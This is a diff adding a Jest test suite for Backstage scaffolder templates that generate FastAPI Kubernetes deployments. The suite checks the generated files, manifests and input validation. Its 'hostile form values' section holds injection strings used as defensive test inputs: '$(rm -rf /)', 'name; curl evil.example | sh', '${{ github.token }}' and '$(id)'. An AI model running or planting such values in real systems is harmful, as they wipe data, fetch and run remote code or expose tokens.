@@ -1,0 +1,290 @@
+import path from 'node:path';
+import yaml from 'yaml';
+import { BRIEF_DELIVERABLES, COMMON_FILES } from './deliverables';
+import {
+  discoverTemplateCases,
+  startScaffolder,
+  TemplateCase,
+  writeFiles,
+} from './scaffolderDryRun';
+
+// Set by scripts/test-templates.sh: the later checks (schema, policy, pytest, workflow
+// lint, cluster apply) run on the files written there.
+const OUTPUT_DIR = process.env.TEMPLATE_OUTPUT_DIR;
+
+const cases = discoverTemplateCases();
+const templateNames = [...new Set(cases.map(c => c.template))];
+
+jest.setTimeout(120_000);
+
+let scaffolder: Awaited<ReturnType<typeof startScaffolder>>;
+beforeAll(async () => {
+  scaffolder = await startScaffolder();
+});
+afterAll(async () => {
+  await scaffolder?.stop();
+});
+
+function objectsOf(content: Buffer): any[] {
+  return yaml
+    .parseAllDocuments(content.toString('utf8'))
+    .map(doc => doc.toJS())
+    .filter(Boolean);
+}
+
+it('finds all five easy-deployment templates, each with examples', () => {
+  expect(templateNames.sort()).toEqual(Object.keys(BRIEF_DELIVERABLES).sort());
+});
+
+describe.each(cases.map(c => [`${c.template} / ${c.example}`, c] as const))(
+  'template %s',
+  (_label, testCase: TemplateCase) => {
+    let files: Map<string, Buffer>;
+
+    beforeAll(async () => {
+      const result = await scaffolder.dryRun(
+        testCase.templateEntity,
+        testCase.values,
+      );
+      if (result.status !== 200) {
+        throw new Error(
+          `dry-run failed with ${result.status}: ${JSON.stringify(
+            result.body,
+          )}`,
+        );
+      }
+      files = result.files;
+      if (OUTPUT_DIR) {
+        writeFiles(
+          path.join(OUTPUT_DIR, testCase.template, testCase.example),
+          files,
+        );
+      }
+    });
+
+    it('generates every deliverable of the brief and the common files', () => {
+      const expected = [
+        ...COMMON_FILES,
+        ...BRIEF_DELIVERABLES[testCase.template],
+      ];
+      const missing = expected.filter(file => !files.has(file));
+      expect(missing).toEqual([]);
+    });
+
+    it('generates a Dockerfile, tests and a GitHub Actions workflow', () => {
+      const names = [...files.keys()];
+      expect(names.some(f => /(^|\/)Dockerfile$/.test(f))).toBe(true);
+      expect(names.some(f => /(^|\/)tests\/test_.*\.py$/.test(f))).toBe(true);
+      expect(names.some(f => /^\.github\/workflows\/.+\.ya?ml$/.test(f))).toBe(
+        true,
+      );
+    });
+
+    it('renders every YAML file to valid YAML with no template syntax left', () => {
+      const yamlFiles = [...files].filter(([file]) => /\.ya?ml$/.test(file));
+      for (const [, content] of yamlFiles) {
+        expect(() => objectsOf(content)).not.toThrow();
+      }
+      // No unrendered reference to the form's values may remain. The hostile examples
+      // put literal ${{ }} text into values: that text, wherever it was rendered
+      // (raw or JSON-escaped), is removed before looking.
+      const literalInputs = Object.values(testCase.values)
+        .filter((v): v is string => typeof v === 'string')
+        .flatMap(v => [v, JSON.stringify(v).slice(1, -1)]);
+      const withoutInputs = (text: string) =>
+        literalInputs.reduce(
+          (rest, literal) => rest.split(literal).join(''),
+          text,
+        );
+      const leftovers = yamlFiles
+        .filter(([file]) => !file.startsWith('.github/'))
+        .filter(([, content]) =>
+          /\$\{\{\s*(values|parameters)\./.test(
+            withoutInputs(content.toString('utf8')),
+          ),
+        )
+        .map(([file]) => file);
+      expect(leftovers).toEqual([]);
+    });
+
+    it('registers a catalog entity that the Kubernetes tab can find', () => {
+      const [entity] = objectsOf(files.get('catalog-info.yaml')!);
+      const annotations = entity.metadata.annotations ?? {};
+      expect(entity.metadata.name).toBe(testCase.values.name);
+      expect(annotations['backstage.io/kubernetes-id']).toBe(
+        testCase.values.name,
+      );
+      expect(annotations['backstage.io/kubernetes-namespace']).toBeTruthy();
+      expect(annotations['backstage.io/techdocs-ref']).toBe('dir:.');
+    });
+  },
+);
+
+describe('template specifics from the brief', () => {
+  const render = async (template: string) => {
+    const testCase = cases.find(
+      c => c.template === template && c.example === 'typical',
+    )!;
+    const result = await scaffolder.dryRun(
+      testCase.templateEntity,
+      testCase.values,
+    );
+    expect(result.status).toBe(200);
+    const kinds = (file: string) => objectsOf(result.files.get(file)!);
+    return { files: result.files, kinds };
+  };
+
+  it('static web: 3 replicas, a LoadBalancer and content from a ConfigMap', async () => {
+    const { kinds } = await render('fastapi-static-web');
+    const [deployment] = kinds('k8s/deployment.yaml');
+    const [service] = kinds('k8s/service.yaml');
+    const [configMap] = kinds('k8s/configmap.yaml');
+    // The brief's 3 replicas are the form's default; "typical" keeps the defaults.
+    expect(deployment.spec.replicas).toBe(3);
+    expect(service.spec.type).toBe('LoadBalancer');
+    expect(configMap.kind).toBe('ConfigMap');
+    const volumes = deployment.spec.template.spec.volumes ?? [];
+    const envFrom = deployment.spec.template.spec.containers.flatMap(
+      (c: any) => c.envFrom ?? [],
+    );
+    const usesConfigMap =
+      volumes.some((v: any) => v.configMap?.name === configMap.metadata.name) ||
+      envFrom.some(
+        (e: any) => e.configMapRef?.name === configMap.metadata.name,
+      );
+    expect(usesConfigMap).toBe(true);
+  });
+
+  it('postgres: Recreate strategy on a single-writer volume, internal Service, no password in Git', async () => {
+    const { kinds } = await render('fastapi-postgres');
+    const [deployment] = kinds('k8s/postgres-deployment.yaml');
+    const [service] = kinds('k8s/postgres-service.yaml');
+    const [pvc] = kinds('k8s/postgres-pvc.yaml');
+    expect(deployment.spec.strategy.type).toBe('Recreate');
+    expect(deployment.spec.template.spec.containers[0].image).toMatch(
+      /^postgres:\d+(\.\d+)?[\w.-]*(@sha256:[a-f0-9]{64})?$/,
+    );
+    expect(service.spec.type ?? 'ClusterIP').toBe('ClusterIP');
+    expect(pvc.spec.accessModes).toEqual(['ReadWriteOnce']);
+    const secrets = kinds('k8s/postgres-secret.yaml').filter(
+      (o: any) => o.kind === 'Secret',
+    );
+    const committedPasswords = secrets.flatMap((secret: any) =>
+      Object.entries({ ...secret.data, ...secret.stringData })
+        .filter(([key]) => /password/i.test(key))
+        .map(([, value]) => String(value)),
+    );
+    // Only a placeholder may be committed; the real one is made at deploy time.
+    const realLooking = committedPasswords.filter(
+      value =>
+        value.trim() !== '' &&
+        !/change|placeholder|replace|generated/i.test(value),
+    );
+    expect(realLooking).toEqual([]);
+  });
+
+  it('multi-tier: backend only inside the cluster, frontend the only external entry', async () => {
+    const { files, kinds } = await render('fastapi-multi-tier');
+    const services = [...files.keys()]
+      .filter(f => f.startsWith('k8s/'))
+      .flatMap(f => kinds(f))
+      .filter((o: any) => o.kind === 'Service');
+    const external = services.filter((s: any) =>
+      ['LoadBalancer', 'NodePort'].includes(s.spec.type),
+    );
+    expect(external.map((s: any) => s.metadata.name)).toEqual(
+      kinds('k8s/frontend-service.yaml').map((s: any) => s.metadata.name),
+    );
+    const [backendService] = kinds('k8s/backend-service.yaml');
+    expect(backendService.spec.type ?? 'ClusterIP').toBe('ClusterIP');
+    const docs = [...files.entries()]
+      .filter(([f]) => f.startsWith('docs/'))
+      .map(([, c]) => c.toString('utf8'))
+      .join('\n');
+    expect(docs).toMatch(/```mermaid/);
+  });
+
+  it('health monitoring: liveness, readiness and startup probes', async () => {
+    const { kinds } = await render('fastapi-health-monitoring');
+    const [deployment] = kinds('k8s/fastapi-app-deployment.yaml');
+    const [container] = deployment.spec.template.spec.containers;
+    expect(container.livenessProbe.httpGet.path).toBe('/health');
+    expect(container.readinessProbe.httpGet.path).toBe('/ready');
+    expect(container.startupProbe).toBeDefined();
+  });
+
+  it('resource quota: a namespace, a quota and requests and limits that fit it', async () => {
+    const { kinds } = await render('fastapi-resource-quota');
+    const [namespace] = kinds('k8s/namespace.yaml');
+    const [quota] = kinds('k8s/resource-quota.yaml');
+    const [deployment] = kinds('k8s/fastapi-app-deployment.yaml');
+    const [kustomization] = kinds('k8s/kustomization.yaml');
+    expect(namespace.kind).toBe('Namespace');
+    expect(quota.kind).toBe('ResourceQuota');
+    // The quota lands in the namespace the kustomization applies everything to.
+    expect(quota.metadata.namespace ?? kustomization.namespace).toBe(
+      namespace.metadata.name,
+    );
+    for (const container of deployment.spec.template.spec.containers) {
+      expect(container.resources.requests.memory).toBeTruthy();
+      expect(container.resources.limits.memory).toBeTruthy();
+    }
+  });
+});
+
+describe('hostile form values', () => {
+  const hostileNames = [
+    'a: b\n- x',
+    '${{ github.token }}',
+    '$(rm -rf /)',
+    'name; curl evil.example | sh',
+    `x${'a'.repeat(80)}`,
+    'UPPER',
+    '-leading-dash',
+    '',
+  ];
+
+  it.each(templateNames)(
+    '%s rejects names that are not short DNS labels, saying what to fix',
+    async template => {
+      const testCase = cases.find(c => c.template === template)!;
+      for (const name of hostileNames) {
+        const result = await scaffolder.dryRun(testCase.templateEntity, {
+          ...testCase.values,
+          name,
+        });
+        expect({ name, status: result.status }).toEqual({ name, status: 400 });
+        const messages = JSON.stringify(result.body.errors);
+        expect(messages).toMatch(/name/);
+      }
+    },
+  );
+
+  it.each(templateNames)(
+    '%s renders a description full of YAML, shell and template syntax inertly, or rejects it',
+    async template => {
+      const testCase = cases.find(c => c.template === template)!;
+      const description = `it's "quoted": {a: [b]} # $(id) \`id\` && echo ok`;
+      const result = await scaffolder.dryRun(testCase.templateEntity, {
+        ...testCase.values,
+        description,
+      });
+      const outcome =
+        result.status === 400
+          ? {
+              rejected: true,
+              saysWhy: /description/.test(JSON.stringify(result.body.errors)),
+            }
+          : {
+              rejected: false,
+              status: result.status,
+              rendered: objectsOf(result.files.get('catalog-info.yaml')!)[0]
+                ?.metadata?.description,
+            };
+      expect([
+        { rejected: true, saysWhy: true },
+        { rejected: false, status: 200, rendered: description },
+      ]).toContainEqual(outcome);
+    },
+  );
+});
